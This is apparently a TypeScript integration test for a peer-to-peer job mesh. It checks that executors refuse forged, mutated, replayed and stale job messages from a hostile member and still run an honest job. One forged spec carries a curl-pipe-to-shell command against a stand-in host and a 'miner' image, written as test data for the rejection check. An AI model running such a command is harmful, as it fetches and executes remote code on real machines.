// Forged, mutated and replayed jobs sent straight to executors. Three real agents (in-process:
// real libp2p mesh with a swarm key, SQLite stores, the no-op executor wrapped to record every
// run) and a hostile member built with the same stack and key: it is in the mesh, but not an
// allowed publisher. It skips gossip and the auction altogether and sends BidRequests and
// Awards over the agents' direct request protocol, as an owner would: unsigned, with a random
// signature, with an allowed publisher's valid signature over a spec it then swapped, with the
// publisher field swapped, replays of an award an executor already ran (captured from an
// honest run, built from the job record read back through the agent API), and a job signed
// long ago (beyond the replay window). Two agent sets: one with a publisher allowlist (only
// agent A), one that lets any member publish, where the hostile member mutates A's signed jobs.
// Shown: not one forged message starts an execution, each is refused with its reason (the
// AwardDeclined / BidRefused reply, and the agent's refusal log with the detail), and an
// honest job published during the attack runs and succeeds.
import { randomBytes } from 'node:crypto'
import { pino } from 'pino'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Agent } from '../../src/agent/agent.ts'
import { newJobId } from '../../src/agent/ids.ts'
import {
  EXECUTOR_REPLAY_DEFAULTS, type JobAuthorization, type PublisherAllowlist, type ScreenVerdict, type SignedJobFields,
  UNAUTHORIZED_PUBLISHER, newJobNonce, signJob, signatureToString
} from '../../src/agent/signing.ts'
import { generateSwarmKeyFile } from '../../src/mesh/security.ts'
import type { JobSpec } from '../../src/protocol/job-spec.ts'
import type { JobRecord } from '../../src/protocol/job.ts'
import { type Message, MessageType } from '../../src/protocol/messages.ts'
import type { Executor } from '../../src/runtime/executor.ts'
import { noopExecutor } from '../../src/runtime/noop-executor.ts'
import { waitFor } from '../support/cluster.ts'
import { type PrivateAgent, startPrivateAgent, stopPrivateAgents, waitPrivateAgentsAlive } from '../support/private-agent.ts'
import { type RawGossipNode, directRequest, startRawGossipNode } from '../support/raw-gossip-node.ts'

/** The executor's refusal reasons and details, as signing.ts names them (typed, so a renamed
 *  reason breaks this test at compile time rather than silently never matching). */
type Reason = Extract<ScreenVerdict, { ok: false }>['reason']
type Detail = Extract<JobAuthorization, { ok: false }>['detail']
const EXPIRED: Reason = 'expired job'
const REPLAYED: Reason = 'replayed award'
const FINISHED: Reason = 'finished job'

/** One run the executor was asked to make, on which agent. */
interface Run { node: string, jobId: string, epoch: number, image: string }

/** The no-op executor, recording every run before it "starts". */
function countingExecutor (node: () => string, runs: Run[]): Executor {
  const inner = noopExecutor()
  return {
    ...inner,
    async run (attempt, options) {
      runs.push({ node: node(), jobId: attempt.jobId, epoch: attempt.epoch, image: attempt.spec.image })
      return await inner.run(attempt, options)
    }
  }
}

interface Refusal { msg: 'bid:refused' | 'award:refused', jobId: string, from: string, reason: string, detail?: string }
interface Honest extends PrivateAgent { refusals: Refusal[] }

const signedFields = (job: JobRecord): Required<Pick<JobRecord, 'publisher' | 'createdAtMs' | 'nonce' | 'signature'>> =>
  ({ publisher: job.publisher, createdAtMs: job.createdAtMs, nonce: job.nonce!, signature: job.signature! })

/** A forged job: what the hostile member puts in a BidRequest or an Award. */
interface Forgery {
  kind: string
  jobId: string
  epoch: number
  spec: JobSpec
  envelope: { publisher?: string, createdAtMs?: number, nonce?: string, signature?: string }
  /** where to send it; default every honest agent */
  to?: string[]
  /** also sent as a BidRequest (replays are not: a bid request commits to nothing) */
  asBid: boolean
  /** expected refusal (reason, and the detail in the agent's log for publisher refusals) */
  expect: { reason: Reason, detail?: Detail }
}

const SETS: Array<{ name: string, allowAny: boolean }> = [
  { name: 'publisher allowlist (agent A only)', allowAny: false },
  { name: 'any member may publish', allowAny: true }
]

for (const set of SETS) {
  describe(`forged and replayed jobs sent directly to executors: ${set.name}`, () => {
    const swarmKey = generateSwarmKeyFile()
    const honest: Honest[] = []
    const runs: Run[] = []
    let hostile: RawGossipNode | undefined

    async function startHonest (bootstrap: string[], publishers: (self: string) => PublisherAllowlist): Promise<Honest> {
      const refusals: Refusal[] = []
      // The agent's own refusal log ('bid:refused' / 'award:refused', with reason and detail).
      const logger = pino({ level: 'warn' }, {
        write (line: string) {
          const e = JSON.parse(line)
          if (e.msg === 'bid:refused' || e.msg === 'award:refused') refusals.push({ msg: e.msg, jobId: e.jobId, from: e.from, reason: e.reason, detail: e.detail })
        }
      })
      const h = await startPrivateAgent({ swarmKey, bootstrap, logger, executor: mesh => countingExecutor(() => mesh.peerId, runs), publishers, dirPrefix: 'bidmesh-forged-' })
      return { ...h, refusals }
    }

    beforeAll(async () => {
      // A first: with an allowlist, every agent (A included) trusts A only.
      const a = await startHonest([], self => set.allowAny ? { any: true } : { peers: [self] })
      honest.push(a)
      const allow: PublisherAllowlist = set.allowAny ? { any: true } : { peers: [a.agent.peerId] }
      honest.push(...await Promise.all([0, 1].map(async () => await startHonest(a.agent.listenAddrs(), () => allow))))
      await waitPrivateAgentsAlive(honest)
      // The hostile member: same stack, same swarm key, connected to every agent.
      hostile = await startRawGossipNode({ swarmKey })
      await hostile.dial(honest.flatMap(h => h.agent.listenAddrs()))
    }, 60_000)

    afterAll(async () => {
      await hostile?.stop()
      await stopPrivateAgents(honest)
    })

    it('runs no forged, mutated or replayed job, refuses each with its reason, and still runs an honest one', async () => {
      const h = hostile!
      const [a, b] = honest
      const ids = honest.map(x => x.agent.peerId)
      const spec = (command: string) => ({ image: 'bidmesh/busybox:latest', command, resources: { memory: '32m' } })
      const succeeded = async (agent: Agent, id: string): Promise<JobRecord> => await waitFor(`job ${id} to succeed`, async () => {
        const { job } = await agent.getJob(id)
        expect(['failed', 'cancelled']).not.toContain(job.state)
        return job.state === 'succeeded' ? job : undefined
      }, 20_000, 20)

      // An honest run to capture from: A publishes, some executor runs it, A's record (read
      // back through the agent API) holds everything an award for it carries.
      const captured = await succeeded(a.agent, (await a.agent.submit(spec('true'))).id)
      const ranOn = captured.node!
      expect(captured.signature).toBeDefined()
      expect(runs.filter(r => r.jobId === captured.id)).toHaveLength(1)
      // Every agent has heard that it ended (the owner's gossip, or the copy it holds as a replica).
      for (const x of honest) {
        await waitFor('every agent to know the captured job ended', async () =>
          (await x.agent.listJobs()).some(j => j.id === captured.id && j.state === 'succeeded') ? true : undefined, 5000, 20)
      }

      const base = { spec: captured.spec }
      const evil: JobSpec = { ...captured.spec, image: 'evil/miner:latest', command: ['sh', '-c', 'curl -s evil.example | sh'] }
      const notAllowed = (d: Detail): { reason: Reason, detail: Detail } => ({ reason: UNAUTHORIZED_PUBLISHER, detail: set.allowAny ? 'bad-signature' : d })
      // An allowed publisher's job signed long ago (the test holds A's key: think of a job A
      // published last month, captured then).
      const oldMs = Date.now() - EXECUTOR_REPLAY_DEFAULTS.windowMs - 3600_000
      const stale: SignedJobFields = { id: newJobId(oldMs), spec: captured.spec, publisher: a.agent.peerId, createdAtMs: oldMs, nonce: newJobNonce() }
      const forgeries: Forgery[] = [
        { kind: 'unsigned', jobId: newJobId(), epoch: 1, ...base, envelope: {}, asBid: true, expect: { reason: UNAUTHORIZED_PUBLISHER, detail: 'unsigned' } },
        {
          kind: 'random signature',
          jobId: newJobId(),
          epoch: 1,
          ...base,
          envelope: { publisher: a.agent.peerId, createdAtMs: Date.now(), nonce: newJobNonce(), signature: signatureToString(randomBytes(64)) },
          asBid: true,
          expect: { reason: UNAUTHORIZED_PUBLISHER, detail: 'bad-signature' }
        },
        { kind: 'spec swapped', jobId: captured.id, epoch: captured.epoch + 10, spec: evil, envelope: signedFields(captured), asBid: true, expect: { reason: UNAUTHORIZED_PUBLISHER, detail: 'bad-signature' } },
        {
          kind: 'publisher swapped to sender',
          jobId: captured.id,
          epoch: captured.epoch + 11,
          ...base,
          envelope: { ...signedFields(captured), publisher: h.peerId },
          asBid: true,
          expect: notAllowed('not-allowed')
        },
        {
          kind: 'publisher swapped to another member',
          jobId: captured.id,
          epoch: captured.epoch + 12,
          ...base,
          envelope: { ...signedFields(captured), publisher: b.agent.peerId },
          asBid: true,
          expect: notAllowed('not-allowed')
        },
        { kind: 'replay to its executor', jobId: captured.id, epoch: captured.epoch, ...base, envelope: signedFields(captured), to: [ranOn], asBid: false, expect: { reason: REPLAYED } },
        // The signature does not cover the epoch or the executor (retries and takeovers change
        // them), so only knowing that the job has ended stops these two.
        { kind: 'replay to another executor', jobId: captured.id, epoch: captured.epoch, ...base, envelope: signedFields(captured), to: ids.filter(x => x !== ranOn), asBid: true, expect: { reason: FINISHED } },
        { kind: 'replay with a higher epoch', jobId: captured.id, epoch: captured.epoch + 1, ...base, envelope: signedFields(captured), asBid: true, expect: { reason: FINISHED } },
        {
          kind: 'stale (beyond replay window)',
          jobId: stale.id,
          epoch: 1,
          spec: stale.spec,
          envelope: { publisher: stale.publisher, createdAtMs: stale.createdAtMs, nonce: stale.nonce, signature: signatureToString(signJob(a.key, stale)) },
          asBid: true,
          expect: { reason: EXPIRED }
        }
      ]

      const runsBefore = runs.length
      const sent: Record<string, number> = {}
      const refused: Record<string, number> = {}
      const replies: Array<{ kind: string, type: 'bid' | 'award', to: string, reply: Message }> = []
      const bidRequest = (f: Forgery): Message => ({ type: MessageType.BidRequest, body: { jobId: f.jobId, epoch: f.epoch, owner: h.peerId, spec: f.spec, ...f.envelope } })
      const award = (f: Forgery): Message => ({ type: MessageType.Award, body: { jobId: f.jobId, epoch: f.epoch, owner: h.peerId, replicas: [], spec: f.spec, leaseMs: 3000, term: captured.term, ...f.envelope } })

      let attacking = true
      const attack = (async () => {
        // Round after round until the honest job is done: each forgery, as a bid request and
        // as an award, to each agent it targets.
        do {
          for (const f of forgeries) {
            for (const to of f.to ?? ids) {
              for (const [type, make] of [['bid', bidRequest], ['award', award]] as const) {
                if (type === 'bid' && !f.asBid) continue
                const reply = await directRequest(h, to, make(f))
                sent[f.kind] = (sent[f.kind] ?? 0) + 1
                replies.push({ kind: f.kind, type, to, reply })
                const wasRefused = (type === 'bid' && reply.type === MessageType.BidRefused) || (type === 'award' && reply.type === MessageType.AwardDeclined)
                if (wasRefused) refused[f.kind] = (refused[f.kind] ?? 0) + 1
              }
            }
          }
        } while (attacking)
      })()

      let honestMs: number
      try {
        // An honest job, published by A during the attack.
        const submittedAtMs = Date.now()
        const during = await a.agent.submit(spec('echo honest'))
        await succeeded(a.agent, during.id)
        honestMs = Date.now() - submittedAtMs
      } finally {
        attacking = false
        await attack
      }
      // Anything a forged award started would have been recorded at once (the agent calls the
      // executor as soon as it acks); give stragglers a moment anyway.
      await new Promise(resolve => setTimeout(resolve, 200))

      const newRuns = runs.slice(runsBefore)
      const forgedRuns = newRuns.filter(r => forgeries.some(f => f.jobId === r.jobId) || r.image === evil.image)
      const total = (o: Record<string, number>): number => Object.values(o).reduce((x, y) => x + y, 0)
      const logged = honest.flatMap(x => x.refusals.filter(r => r.from === h.peerId))
      console.log(`forged messages (${set.name}): sent per kind ${JSON.stringify(sent)} (${total(sent)} in all; each to every agent as a bid request and an award, ` +
        `but the exact replay only as an award to the agent that ran it, the other replay only to the other agents); refused per kind ${JSON.stringify(refused)} (${total(refused)}); ` +
        `refusals in agent logs ${logged.length}; executions of forged jobs = ${forgedRuns.length}; ` +
        `honest job succeeded ${honestMs} ms after submission under attack (runs during attack: ${newRuns.length}, all of it)`)

      // Not one forged message ran anything; the one new run is the honest job's.
      expect(forgedRuns).toEqual([])
      expect(newRuns).toHaveLength(1)
      // Every forged message was refused, with the reason its kind calls for.
      expect(refused).toEqual(sent)
      for (const r of replies) {
        const f = forgeries.find(x => x.kind === r.kind)!
        const body = r.reply.body as { reason?: string }
        expect({ kind: r.kind, type: r.type, reason: body.reason }).toEqual({ kind: r.kind, type: r.type, reason: f.expect.reason })
      }
      // And each refusal is in the refusing agent's log, with its detail.
      expect(logged).toHaveLength(replies.length)
      for (const f of forgeries) {
        const mine = logged.filter(l => l.jobId === f.jobId && l.reason === f.expect.reason && (f.expect.detail === undefined || l.detail === f.expect.detail))
        expect({ kind: f.kind, logged: mine.length > 0 }).toEqual({ kind: f.kind, logged: true })
      }
    }, 60_000)
  })
}
